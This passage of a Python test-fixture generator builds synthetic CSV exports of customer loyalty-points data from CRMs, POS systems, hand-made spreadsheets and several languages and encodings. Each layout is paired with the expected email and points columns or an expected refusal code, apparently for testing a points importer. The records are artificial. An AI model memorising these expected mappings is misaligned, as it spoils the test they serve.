            'Pipe-delimited; PTS_BAL (balance) vs PTS_YTD (earned this year); LAST_VISIT is a yyyymmdd int.',
            delimiter='|',
            newline='\r\n',
        )
    )

    # --- marketing / CRM --------------------------------------------------------------------
    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            *mailchimp_columns(rng)[:6],
            ('Points Balance', lambda p: str(p.balance)),
            *mailchimp_columns(rng)[6:],
        ],
    )
    add(
        Layout(
            'mailchimp_audience_points.csv',
            'Mailchimp',
            header,
            rows,
            mapping(header, 'Email Address', 'Points Balance'),
            'Merge field "Points Balance"; MEMBER_RATING 1-5, LEID and GMTOFF are integer decoys.',
        )
    )


def _crm_and_other_peoples_email_layouts(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    people = g.people(n_rows(g))
    header, rows = table(people, mailchimp_columns(rng))
    add(
        Layout(
            'mailchimp_audience_no_points.csv',
            'Mailchimp',
            header,
            rows,
            refuse('NO_POINTS_COLUMN'),
            'An audience export with no points: MEMBER_RATING/LEID/GMTOFF are not points.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Email', lambda p: sometimes_blank(rng, p.email, 0.12)),  # SMS-only profiles
            ('Phone Number', lambda p: p.phone),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Zip Code', lambda p: p.zip),
            ('Klaviyo ID', lambda p: ''.join(rng.choices(string.ascii_uppercase + string.digits, k=26))),
            ('Historic Number Of Orders', lambda p: str(p.orders)),
            ('Historic Customer Lifetime Value', lambda p: money(p.spent, 'plain')),
            ('Loyalty Tier', lambda p: p.tier),
            ('Loyalty Lifetime Points', lambda p: str(p.lifetime)),
            ('Loyalty Points Balance', lambda p: str(p.balance)),
            ('Last Active', lambda p: p.created.isoformat()),
        ],
    )
    add(
        Layout(
            'klaviyo_profiles.csv',
            'Klaviyo',
            header,
            rows,
            mapping(header, 'Email', 'Loyalty Points Balance'),
            'Lifetime points next to the balance.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Record ID', lambda p: str(rng.randint(10**10, 10**11))),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Email', lambda p: p.email),
            ('Contact owner', lambda p: rng.choice(STAFF)),
            ('Phone Number', lambda p: p.phone),
            ('Lifecycle Stage', lambda p: rng.choice(['Customer', 'Lead', 'Subscriber'])),
            ('Create Date', lambda p: p.created.strftime('%Y-%m-%d %H:%M')),
            ('Loyalty points balance', lambda p: str(p.balance)),
            ('Number of Associated Deals', lambda p: str(rng.randint(0, 4))),
        ],
    )
    add(
        Layout(
            'hubspot_contacts.csv',
            'HubSpot',
            header,
            rows,
            mapping(header, 'Email', 'Loyalty points balance'),
            'Contact owner holds staff emails (4 distinct), not the customer.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Record ID', lambda p: str(rng.randint(10**10, 10**11))),
            ('Contact owner', lambda p: rng.choice(STAFF)),
            ('Full name', lambda p: p.full),
            ('Loyalty points balance', lambda p: grouped(p.balance, ',')),
            ('Phone Number', lambda p: p.phone),
            ('Email', lambda p: p.email),
            ('Associated Company', lambda p: rng.choice(['', 'Müller & Söhne, KG', 'Acme'])),
        ],
    )
    add(
        Layout(
            'hubspot_contacts_owner_first.csv',
            'HubSpot',
            header,
            rows,
            mapping(header, 'Email', 'Loyalty points balance'),
            'Owner email column comes BEFORE the customer email; balance quoted with "1,234".',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Record ID', lambda p: str(rng.randint(10**10, 10**11))),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Contact owner', lambda p: rng.choice(STAFF)),
            ('Phone Number', lambda p: p.phone),
            ('Loyalty points balance', lambda p: str(p.balance)),
        ],
    )
    add(
        Layout(
            'hubspot_owner_email_only.csv',
            'HubSpot',
            header,
            rows,
            refuse('NO_EMAIL_COLUMN'),
            "The only emails are the contact owner's (staff): no customer email column.",
        )
    )

    def outlook_columns(points: bool) -> list[Column]:
        cols: list[Column] = [
            ('First Name', lambda p: p.first),
            ('Middle Name', lambda p: ''),
            ('Last Name', lambda p: p.last),
            ('Title', lambda p: ''),
            ('Suffix', lambda p: ''),
            ('Nickname', lambda p: ''),
            ('E-mail Address', lambda p: p.email),
            ('E-mail Type', lambda p: 'SMTP'),
            ('E-mail Display Name', lambda p: f'{p.full} ({p.email})'),
            (
                'E-mail 2 Address',
                lambda p: (
                    f'{ascii_slug(p.first)}{rng.randint(1, 99)}@example.org' if rng.random() < 0.3 else ''
                ),
            ),
            ('E-mail 2 Type', lambda p: ''),
            ('E-mail 3 Address', lambda p: ''),
            ('Home Phone', lambda p: p.phone),
            ('Mobile Phone', lambda p: ''),
            ('Home Street', lambda p: p.street),
            ('Home City', lambda p: p.city),
            ('Home Postal Code', lambda p: p.zip),
            ('Home Country', lambda p: ''),
            ('Company', lambda p: ''),
            ('Job Title', lambda p: ''),
            ('Birthday', lambda p: f'{p.birthday.month}/{p.birthday.day}/{p.birthday.year}'),
            ('Referred By', lambda p: ''),
            ('Notes', lambda p: rng.choice(['', 'Met at the fair,\r\nlikes tea'])),
            ('User 1', lambda p: ''),
            ('Mileage', lambda p: ''),
            ('Categories', lambda p: rng.choice(['', 'Customers', 'Customers;VIP'])),
            ('Sensitivity', lambda p: 'Normal'),
            ('Priority', lambda p: 'Normal'),
            ('Private', lambda p: 'False'),
        ]
        if points:
            cols.append(('Loyalty Points', lambda p: str(p.balance)))
        return cols

    people = g.people(n_rows(g), 'de')
    header, rows = table(people, outlook_columns(points=True))
    add(
        Layout(
            'outlook_contacts_points.csv',
            'Outlook',
            header,
            rows,
            mapping(header, 'E-mail Address', 'Loyalty Points'),
            'Outlook: E-mail Address is the primary address; E-mail 2 is a sparse secondary; '
            'the display name embeds the email in parentheses.',
            encoding='cp1252',
            newline='\r\n',
            quoting=csv.QUOTE_ALL,
        )
    )

    people = g.people(n_rows(g), 'fr')
    header, rows = table(people, outlook_columns(points=False))
    add(
        Layout(
            'outlook_contacts_no_points.csv',
            'Outlook',
            header,
            rows,
            refuse('NO_POINTS_COLUMN'),
            'Outlook contacts with no points at all.',
            encoding='cp1252',
            newline='\r\n',
            quoting=csv.QUOTE_ALL,
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('ID', lambda p: sf_id(rng, '003')),
            ('ACCOUNTID', lambda p: sf_id(rng, '001')),
            ('FIRSTNAME', lambda p: p.first),
            ('LASTNAME', lambda p: p.last),
            ('OWNER.EMAIL', lambda p: rng.choice(STAFF)),
            ('EMAIL', lambda p: p.email),
            ('PHONE', lambda p: p.phone),
            ('MAILINGPOSTALCODE', lambda p: p.zip),
            ('BIRTHDATE', lambda p: iso(p.birthday)),
            ('LIFETIME_POINTS__C', lambda p: f'{p.lifetime}.0'),
            ('LOYALTY_POINTS_BALANCE__C', lambda p: f'{p.balance}.0'),
            ('CREATEDDATE', lambda p: p.created.isoformat() + '.000Z'),
        ],
    )
    add(
        Layout(
            'salesforce_dataloader_contacts.csv',
            'Salesforce',
            header,
            rows,
            mapping(header, 'EMAIL', 'LOYALTY_POINTS_BALANCE__C'),
            'Data Loader: all quoted, numbers written "1200.0", OWNER.EMAIL is staff.',
            quoting=csv.QUOTE_ALL,
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Record Id', lambda p: f'zcrm_{rng.randint(10**17, 10**18)}'),
            ('Contact Owner', lambda p: rng.choice(['Anna Berg', 'Tom Reyes'])),
            ('First Name', lambda p: p.first),
            ('Last Name', lambda p: p.last),
            ('Email', lambda p: p.email),
            (
                'Secondary Email',
                lambda p: (
                    f'{ascii_slug(p.last)}.{rng.randint(1, 999)}@example.org' if rng.random() < 0.35 else ''
                ),
            ),
            ('Mobile', lambda p: p.phone),
            ('Date of Birth', lambda p: p.birthday.strftime('%d/%m/%Y')),
            ('Mailing Zip', lambda p: p.zip),
            ('Points Redeemed', lambda p: str(p.redeemed)),
            ('Points Balance', lambda p: str(p.balance)),
            ('Created Time', lambda p: p.created.strftime('%Y-%m-%d %H:%M:%S')),
        ],
    )
    add(
        Layout(
            'zoho_contacts.csv',
            'Zoho CRM',
            header,
            rows,
            mapping(header, 'Email', 'Points Balance'),
            'Secondary Email is sparse and not the primary address.',
        )
    )

    people = g.people(n_rows(g))
    header, rows = table(
        people,
        [
            ('Contact ID', lambda p: str(p.customer_id)),
            ('Name', lambda p: p.full),
            ('Personal email', lambda p: p.email),
            (
                'Work email',
                lambda p: f'{ascii_slug(p.first)}.{ascii_slug(p.last)}@{rng.choice(COMPANIES)}.example',
            ),
            ('Points balance', lambda p: str(p.balance)),
        ],
    )
    add(
        Layout(
            'crm_personal_and_work_email.csv',
            'CRM export',
            header,
            rows,
            refuse('AMBIGUOUS_EMAIL'),
            'Two complete, different email columns of the same person: which one is the Wix contact?',
            override={'EMAIL': 2, 'POINTS': 4},
        )
    )

    people = g.people(n_rows(g))
    others = g.people(len(people))
    header = ['Order Customer', 'Billing Email', 'Shipping Email', 'Points balance', 'Orders']
    rows = [
        [p.full, p.email, (o.email if rng.random() < 0.7 else p.email), str(p.balance), str(p.orders)]
        for p, o in zip(people, others, strict=True)
    ]
    add(
        Layout(
            'billing_and_shipping_emails.csv',
            'storefront',
            header,
            rows,
            refuse('AMBIGUOUS_EMAIL'),
            'Billing and shipping emails are both complete and differ on most rows.',
            override={'EMAIL': 1, 'POINTS': 3},
        )
    )

    # --- other people's emails --------------------------------------------------------------
    people = g.people(n_rows(g))
    header = [
        'Customer Email',
        'Referred By (email)',
        'Referral Code',
        'Successful Referrals',
        'Points Balance',
    ]
    rows = [
        [
            p.email,
            (rng.choice([o for o in people if o is not p]).email if rng.random() < 0.4 else ''),
            p.referral_code,
            str(rng.randint(0, 6)),
            str(p.balance),
        ]
        for p in people
    ]
    add(
        Layout(
            'referral_program_export.csv',
            'referral app',
            header,
            rows,
            mapping(header, 'Customer Email', 'Points Balance'),
            "The referrer column holds OTHER customers' emails on some rows.",
        )
    )


def _staff_and_decoy_layouts(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    people = g.people(n_rows(g))
    header = ['Receipt', 'Date', 'Staff Member', 'Customer Name', 'Customer Email', 'Points Balance', 'Total']
    rows = [
        [
            f'R{100000 + i}',
            p.created.strftime('%d.%m.%Y'),
            rng.choice(STAFF),
            p.full,
            p.email,
            str(p.balance),
            money(p.spent, 'plain'),
        ]
        for i, p in enumerate(people)
    ]
    add(
        Layout(
            'pos_staff_member_export.csv',
            'POS',
            header,
            rows,
            mapping(header, 'Customer Email', 'Points Balance'),
            'The staff member column is an email on every row, listed before the customer.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Company', 'Account manager', 'Contact name', 'Contact email', 'Points balance', 'Credit limit']
    rows = [
        [
            rng.choice(['Acme', 'Globex', 'Umbrella', 'Initech']),
            rng.choice(STAFF),
            p.full,
            p.email,
            str(p.balance),
            str(rng.choice([1000, 5000, 10000])),
        ]
        for p in people
    ]
    add(
        Layout(
            'b2b_account_manager.csv',
            'B2B spreadsheet',
            header,
            rows,
            mapping(header, 'Contact email', 'Points balance'),
            'Account manager emails are staff; credit limit is a round number.',
        )
    )

    # --- decoy-focused ----------------------------------------------------------------------
    people = g.people(n_rows(g))
    header = ['Email', 'Pending points', 'Points', 'Orders']
    rows = [[p.email, str(p.pending), str(p.balance), str(p.orders)] for p in people]
    add(
        Layout(
            'points_and_pending.csv',
            'spreadsheet',
            header,
            rows,
            mapping(header, 'Email', 'Points'),
            'Plain "Points" next to "Pending points": the plain one is the balance.',
        )
    )

    people = g.people(n_rows(g))
    header = [
        'Tier',
        'Points Balance',
        'ZIP',
        'Phone',
        'Name',
        'Redeemed points',
        'Rating',
        'Email',
        'Order count',
    ]
    rows = [
        [
            p.tier,
            str(p.balance),
            p.zip,
            p.phone,
            p.full,
            str(p.redeemed),
            str(p.rating),
            p.email,
            str(p.orders),
        ]
        for p in people
    ]
    add(
        Layout(
            'varied_column_order.csv',
            'spreadsheet',
            header,
            rows,
            mapping(header, 'Email', 'Points Balance'),
            'Balance second, email seventh; ZIP, rating and order count are integer decoys.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Rating', 'Birth Day', 'Birth Month', 'Birth Year', 'Points']
    rows = [
        [
            p.email,
            str(p.rating),
            str(p.birthday.day),
            str(p.birthday.month),
            str(p.birthday.year),
            str(p.balance),
        ]
        for p in people
    ]
    add(
        Layout(
            'ratings_and_birthday_parts.csv',
            'survey tool',
            header,
            rows,
            mapping(header, 'Email', 'Points'),
            'Rating 1-5 and day/month/year parts are integers with tiny ranges.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Member Email', 'Member Name', 'Total Points Earned', 'Points Balance']
    rows = [[p.email, p.full, grouped(p.earned, ','), grouped(p.balance, ',')] for p in people]
    add(
        Layout(
            'thousands_comma_quoted.csv',
            'loyalty app',
            header,
            rows,
            mapping(header, 'Member Email', 'Points Balance'),
            '"12,345" quoted because of the comma delimiter, in both point columns.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Total Points Earned', 'Points Redeemed', 'Lifetime Points', 'Pending Points']
    rows = [[p.email, str(p.earned), str(p.redeemed), str(p.lifetime), str(p.pending)] for p in people]
    add(
        Layout(
            'earned_redeemed_only.csv',
            'Yotpo/Swell',
            header,
            rows,
            refuse('NO_POINTS_COLUMN'),
            'Only history (earned, redeemed, lifetime, pending): the balance is not in the file.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Name', 'Credits Balance', 'VIP Tier']
    rows = [[p.email, p.full, money(p.credit), p.tier] for p in people]
    add(
        Layout(
            'store_credit_money_only.csv',
            'Rivo',
            header,
            rows,
            refuse('NO_POINTS_COLUMN'),
            'The only "balance" is store credit in dollars.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Name', 'Points', 'Point balance']
    rows = [[p.email, p.full, str(p.balance + rng.choice([0, 15, 40, 250])), str(p.balance)] for p in people]
    add(
        Layout(
            'points_and_point_balance.csv',
            'spreadsheet',
            header,
            rows,
            refuse('AMBIGUOUS_POINTS'),
            '"Points" and "Point balance" hold different values; both read as a balance.',
            override={'EMAIL': 0, 'POINTS': 3},
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Name', 'Balance A', 'Balance B']
    rows = [[p.email, p.full, str(p.balance), str(g.balance())] for p in people]
    add(
        Layout(
            'balance_a_balance_b.csv',
            'spreadsheet',
            header,
            rows,
            refuse('AMBIGUOUS_POINTS'),
            'Two balances named alike with different values.',
            override={'EMAIL': 0, 'POINTS': 2},
        )
    )

    people = g.people(n_rows(g))
    header = ['Phone Number', 'Name', 'Points Balance', 'Lifetime Points', 'Enrolled']
    rows = [[p.phone, p.full, str(p.balance), str(p.lifetime), iso(p.created.date())] for p in people]
    add(
        Layout(
            'square_loyalty_phone_only.csv',
            'Square Loyalty',
            header,
            rows,
            refuse('NO_EMAIL_COLUMN'),
            'Square loyalty is keyed by phone: no email column.',
        )
    )


def _handmade_and_encoding_layouts(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    # --- hand-made ----------------------------------------------------------------------------
    people = g.people(n_rows(g))
    rows = []
    for p in people:
        rows.append(
            [
                f' {p.full} ',
                rng.choice([p.email, p.email.title(), f' {p.email}']),
                f' {p.balance} ',
                rng.choice(['', 'paid cash', 'moved from old card, see notes', 'VIP; birthday in May']),
            ]
        )
        if rng.random() < 0.1:
            rows.append(['', '', '', ''])
    header = ['Name', 'email', 'pts', 'notes']
    add(
        Layout(
            'handmade_spreadsheet.csv',
            'hand-made',
            header,
            rows,
            mapping(header, 'email', 'pts'),
            'Typed by hand: padded cells, Title-Cased emails, blank rows, "pts".',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g))
    rows = [[p.full, p.email, str(p.balance)] for p in people]
    add(
        Layout(
            'headerless_name_email_points.csv',
            'hand-made',
            None,
            rows,
            {'EMAIL': 1, 'POINTS': 2},
            'No header: one column of emails, one column of non-negative integers.',
        )
    )

    people = g.people(n_rows(g))
    rows = [[p.email, str(p.balance), p.tier or 'Bronze'] for p in people]
    add(
        Layout(
            'headerless_tab_email_points_tier.csv',
            'hand-made',
            None,
            rows,
            {'EMAIL': 0, 'POINTS': 1},
            'No header, tab-delimited: email, integer, tier name.',
            delimiter='\t',
        )
    )

    people = g.people(n_rows(g))
    rows = [[p.email, str(p.balance), str(g.balance()), p.full] for p in people]
    add(
        Layout(
            'headerless_two_number_columns.csv',
            'hand-made',
            None,
            rows,
            refuse('AMBIGUOUS_POINTS'),
            'No header and two integer columns of the same shape: nobody can tell which is the balance.',
            override={'EMAIL': 0, 'POINTS': 1},
        )
    )

    people = g.people(n_rows(g))
    header = ['EMAIL', 'POINTS']
    rows = [[p.email, str(p.balance)] for p in people]
    add(
        Layout(
            'mac_classic_cr_line_endings.csv',
            'old Mac Excel',
            header,
            rows,
            {'EMAIL': 0, 'POINTS': 1},
            'Old Mac Excel: bare CR line endings.',
            newline='\r',
        )
    )

    people = g.people(n_rows(g))
    header = ['Customer', 'Shipping address', 'E-mail', 'Current\nPoints', 'Comment']
    rows = [
        [
            p.full,
            f'{p.street}\n{p.zip} {p.city}',
            p.email,
            str(p.balance),
            rng.choice(['', 'said "thanks, see you"', 'line one\nline two, with comma']),
        ]
        for p in people
    ]
    add(
        Layout(
            'quoted_multiline_cells.csv',
            'web shop',
            header,
            rows,
            mapping(header, 'E-mail', 'Current\nPoints'),
            'Newlines and commas inside quoted cells AND inside a quoted header.',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g))
    header = [
        'customer_id',
        'first_name',
        'customer_email',
        'lifetime_points',
        'points_redeemed',
        'points_balance',
        'created_at',
    ]
    rows = [
        [
            str(p.customer_id),
            p.first,
            p.email,
            str(p.lifetime),
            str(p.redeemed),
            str(p.balance),
            p.created.isoformat(),
        ]
        for p in people
    ]
    add(
        Layout(
            'snake_case_export.csv',
            'custom app',
            header,
            rows,
            mapping(header, 'customer_email', 'points_balance'),
            'snake_case headers.',
        )
    )

    people = g.people(n_rows(g))
    header = [
        'id',
        'firstName',
        'lastName',
        'emailAddress',
        'pointsEarned',
        'pointsRedeemed',
        'pointsBalance',
        'tierName',
        'updatedAt',
    ]
    rows = [
        [
            str(p.customer_id),
            p.first,
            p.last,
            p.email,
            str(p.earned),
            str(p.redeemed),
            str(p.balance),
            p.tier,
            p.created.isoformat(),
        ]
        for p in people
    ]
    add(
        Layout(
            'camel_case_api_dump.csv',
            'API dump',
            header,
            rows,
            mapping(header, 'emailAddress', 'pointsBalance'),
            'camelCase headers.',
        )
    )

    # --- encodings ---------------------------------------------------------------------------
    people = g.people(n_rows(g))
    header = ['Email', 'Name', 'Lifetime Points', 'Points Balance', 'Last Order']
    rows = [
        [p.email, p.full, str(p.lifetime), str(p.balance), p.created.strftime('%d/%m/%Y')] for p in people
    ]
    add(
        Layout(
            'excel_unicode_text_utf16.csv',
            'Excel "Unicode Text"',
            header,
            rows,
            mapping(header, 'Email', 'Points Balance'),
            'UTF-16 LE with BOM, tab-delimited, CRLF: what Excel writes as "Unicode Text".',
            encoding='utf-16',
            delimiter='\t',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g))
    header = ['Name', 'Email', 'Points Balance']
    rows = [[p.full, p.email, str(p.balance)] for p in people]
    add(
        Layout(
            'utf16_be_bom.csv',
            'exotic tool',
            header,
            rows,
            mapping(header, 'Email', 'Points Balance'),
            'UTF-16 big-endian with BOM, comma.',
            encoding='utf-16-be-bom',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Full Name', 'Points', 'Orders']
    rows = [[p.email, p.full, str(p.balance), str(p.orders)] for p in people]
    add(
        Layout(
            'excel_windows_cp1252.csv',
            'Excel (Windows)',
            header,
            rows,
            mapping(header, 'Email', 'Points'),
            'Plain "CSV (Comma delimited)" from Windows Excel: cp1252, accented names.',
            encoding='cp1252',
            newline='\r\n',
        )
    )


def _language_layouts(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    # --- languages ---------------------------------------------------------------------------
    people = g.people(n_rows(g), 'de')
    header, rows = table(
        people,
        [
            ('Kundennummer', lambda p: str(p.customer_id)),
            ('Anrede', lambda p: rng.choice(['Herr', 'Frau', ''])),
            ('Vorname', lambda p: p.first),
            ('Nachname', lambda p: p.last),
            ('Straße', lambda p: p.street),
            ('PLZ', lambda p: p.zip),
            ('Ort', lambda p: p.city),
            ('Telefon', lambda p: p.phone),
            ('Geburtsdatum', lambda p: p.birthday.strftime('%d.%m.%Y')),
            ('Punkte gesammelt', lambda p: grouped(p.earned, '.')),
            ('Punkte eingelöst', lambda p: grouped(p.redeemed, '.')),
            ('E-Mail-Adresse', lambda p: p.email),
            ('Punktestand', lambda p: grouped(p.balance, '.')),
            ('Umsatz', lambda p: money(p.spent, 'eur_de')),
        ],
    )
    add(
        Layout(
            'de_kundenliste_cp1252.csv',
            'German Excel',
            header,
            rows,
            mapping(header, 'E-Mail-Adresse', 'Punktestand'),
            'German Excel: cp1252, semicolon, CRLF, "1.234" thousands, "1.234,56 €" money.',
            encoding='cp1252',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'de')
    header = ['Mitgliedsnr.', 'Name', 'E-Mail', 'Punkte eingelöst', 'Punktestand', 'Mitglied seit', 'Filiale']
    rows = [
        [
            f'M-{p.customer_id}',
            p.full,
            p.email,
            str(p.redeemed),
            str(p.balance),
            p.created.strftime('%d.%m.%Y'),
            rng.choice(['Köln', 'München']),
        ]
        for p in people
    ]
    add(
        Layout(
            'de_bonusprogramm_utf8.csv',
            'German club',
            header,
            rows,
            mapping(header, 'E-Mail', 'Punktestand'),
            'German, UTF-8, semicolon; redeemed before balance.',
            delimiter=';',
        )
    )

    people = g.people(n_rows(g), 'de')
    header = ['Kundennummer', 'Name', 'PLZ', 'Ort', 'Punktestand']
    rows = [[str(p.customer_id), p.full, p.zip, p.city, str(p.balance)] for p in people]
    add(
        Layout(
            'de_kundenkarte_ohne_email.csv',
            'German POS',
            header,
            rows,
            refuse('NO_EMAIL_COLUMN'),
            'Loyalty-card export keyed by customer number: no email.',
            encoding='cp1252',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'de')
    header = ['E-Mail', 'Name', 'Punktestand Filiale Nord', 'Punktestand Filiale Süd']
    rows = [[p.email, p.full, str(p.balance), str(g.balance())] for p in people]
    add(
        Layout(
            'de_zwei_filialen_punktestand.csv',
            'German club',
            header,
            rows,
            refuse('AMBIGUOUS_POINTS'),
            'Two stores, two balances: which one should Wix get?',
            override={'EMAIL': 0, 'POINTS': 2},
            delimiter=';',
        )
    )

    people = g.people(n_rows(g), 'fr')
    header, rows = table(
        people,
        [
            ('Nom', lambda p: p.last),
            ('Prénom', lambda p: p.first),
            ('Courriel', lambda p: p.email),
            ('Téléphone', lambda p: p.phone),
            ('Adresse', lambda p: f'{p.street}; Bât. {rng.choice("ABC")}'),
            ('Code postal', lambda p: p.zip),
            ('Points cumulés', lambda p: grouped(p.earned, ' ')),
            ('Points utilisés', lambda p: grouped(p.redeemed, ' ')),
            ('Solde de points', lambda p: grouped(p.balance, ' ')),
        ],
    )
    add(
        Layout(
            'fr_clients_point_virgule.csv',
            'French Excel',
            header,
            rows,
            mapping(header, 'Courriel', 'Solde de points'),
            'French: semicolon, "1 234" with a space as thousands separator, utf-8.',
            delimiter=';',
        )
    )

    people = g.people(n_rows(g), 'fr')
    header = ['Adresse e-mail', 'Nom complet', 'Ville', 'Points fidélité', "Date d'inscription"]
    rows = [
        [p.email, p.full, p.city, grouped(p.balance, '\xa0'), p.created.strftime('%d/%m/%Y')] for p in people
    ]
    add(
        Layout(
            'fr_fidelite_nbsp_cp1252.csv',
            'French Excel',
            header,
            rows,
            mapping(header, 'Adresse e-mail', 'Points fidélité'),
            'French Excel writes a no-break space (0xA0 in cp1252) as thousands separator.',
            encoding='cp1252',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'es')
    header = [
        'Nombre',
        'Apellidos',
        'Correo electrónico',
        'Teléfono',
        'Código postal',
        'Puntos acumulados',
        'Puntos canjeados',
        'Saldo de puntos',
    ]
    rows = [
        [
            p.first,
            p.last,
            p.email,
            p.phone,
            p.zip,
            grouped(p.earned, '.'),
            grouped(p.redeemed, '.'),
            grouped(p.balance, '.'),
        ]
        for p in people
    ]
    add(
        Layout(
            'es_clientes.csv',
            'Spanish Excel',
            header,
            rows,
            mapping(header, 'Correo electrónico', 'Saldo de puntos'),
            'Spanish, semicolon, utf-8-sig, "1.234" thousands.',
            encoding='utf-8-sig',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'es')
    header = ['ID Cliente', 'Nombre', 'Nivel', 'Puntos usados', 'Correo', 'Puntos disponibles']
    rows = [
        [str(p.customer_id), p.full, p.tier or 'Básico', str(p.redeemed), p.email, str(p.balance)]
        for p in people
    ]
    add(
        Layout(
            'es_mx_puntos_disponibles.csv',
            'Spanish POS',
            header,
            rows,
            mapping(header, 'Correo', 'Puntos disponibles'),
            'Spanish (MX), comma, cp1252.',
            encoding='cp1252',
        )
    )

    people = g.people(n_rows(g), 'it')
    header = [
        'Codice cliente',
        'Nome',
        'Cognome',
        'Email',
        'Cellulare',
        'CAP',
        'Punti totali',
        'Punti riscattati',
        'Saldo punti',
    ]
    rows = [
        [
            f'CL{p.customer_id}',
            p.first,
            p.last,
            p.email,
            p.phone,
            p.zip,
            str(p.earned),
            str(p.redeemed),
            str(p.balance),
        ]
        for p in people
    ]
    add(
        Layout(
            'it_clienti_cp1252.csv',
            'Italian Excel',
            header,
            rows,
            mapping(header, 'Email', 'Saldo punti'),
            'Italian, cp1252, semicolon.',
            encoding='cp1252',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'nl')
    header = [
        'Klantnummer',
        'Voornaam',
        'Achternaam',
        'E-mailadres',
        'Telefoonnummer',
        'Postcode',
        'Ingewisselde punten',
        'Puntensaldo',
    ]
    rows = [
        [
            str(p.customer_id),
            p.first,
            p.last,
            p.email,
            p.phone,
            p.zip,
            str(p.redeemed),
            grouped(p.balance, '.'),
        ]
        for p in people
    ]
    add(
        Layout(
            'nl_klanten.csv',
            'Dutch Excel',
            header,
            rows,
            mapping(header, 'E-mailadres', 'Puntensaldo'),
            'Dutch, semicolon, postcodes "1234 AB".',
            delimiter=';',
        )
    )

    people = g.people(n_rows(g), 'pt')
    header = [
        'Nome',
        'E-mail',
        'CPF',
        'Telefone',
        'CEP',
        'Saldo de pontos',
        'Pontos resgatados',
        'Pontos expirados',
    ]
    rows = [
        [
            p.full,
            p.email,
            f'{rng.randint(100, 999)}.{rng.randint(100, 999)}.{rng.randint(100, 999)}-{rng.randint(10, 99)}',
            p.phone,
            p.zip,
            grouped(p.balance, '.'),
            str(p.redeemed),
            str(p.expired),
        ]
        for p in people
    ]
    add(
        Layout(
            'pt_br_clientes.csv',
            'Brazilian e-commerce',
            header,
            rows,
            mapping(header, 'E-mail', 'Saldo de pontos'),
            'Portuguese (BR): CPF and CEP are numeric decoys.',
        )
    )


def _more_language_layouts(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    people = g.people(n_rows(g), 'pt')
    header = ['Cliente', 'NIF', 'Correio eletrónico', 'Pontos gastos', 'Saldo de pontos']
    rows = [
        [p.full, str(rng.randint(100000000, 299999999)), p.email, str(p.redeemed), str(p.balance)]
        for p in people
    ]
    add(
        Layout(
            'pt_pt_clientes_cp1252.csv',
            'Portuguese POS',
            header,
            rows,
            mapping(header, 'Correio eletrónico', 'Saldo de pontos'),
            'Portuguese (PT), cp1252, semicolon; NIF is a 9-digit tax number.',
            encoding='cp1252',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'he')
    header = ['שם מלא', 'דואר אלקטרוני', 'טלפון', 'נקודות שמומשו', 'יתרת נקודות']
    rows = [[p.full, p.email, p.phone, str(p.redeemed), str(p.balance)] for p in people]
    add(
        Layout(
            'he_customers_utf8.csv',
            'Israeli shop',
            header,
            rows,
            mapping(header, 'דואר אלקטרוני', 'יתרת נקודות'),
            'Hebrew headers and names, UTF-8.',
        )
    )

    people = g.people(n_rows(g), 'he')
    header = ['מספר לקוח', 'שם פרטי', 'שם משפחה', 'עיר', 'מיקוד', 'דואר אלקטרוני', 'יתרת נקודות']
    rows = [
        [
            str(p.customer_id),
            p.first,
            p.last,
            rng.choice(['תל אביב', 'חיפה', 'ירושלים']),
            p.zip,
            p.email,
            str(p.balance),
        ]
        for p in people
    ]
    add(
        Layout(
            'he_customers_cp1255.csv',
            'Israeli Excel',
            header,
            rows,
            mapping(header, 'דואר אלקטרוני', 'יתרת נקודות'),
            'Hebrew Windows Excel: cp1255; 7-digit postcodes.',
            encoding='cp1255',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'ja')
    header = [
        '会員番号',
        '氏名',
        'フリガナ',
        'メールアドレス',
        '電話番号',
        '郵便番号',
        '利用ポイント',
        '累計ポイント',
        'ポイント残高',
    ]
    rows = [
        [
            f'{p.customer_id:08d}',
            f'{p.last} {p.first}',
            p.kana,
            p.email,
            p.phone,
            p.zip,
            str(p.redeemed),
            str(p.earned),
            str(p.balance),
        ]
        for p in people
    ]
    add(
        Layout(
            'ja_members_utf8.csv',
            'Japanese EC',
            header,
            rows,
            mapping(header, 'メールアドレス', 'ポイント残高'),
            'Japanese, UTF-8: used and cumulative points before the balance.',
        )
    )

    people = g.people(n_rows(g), 'ja', cp932_only=True)
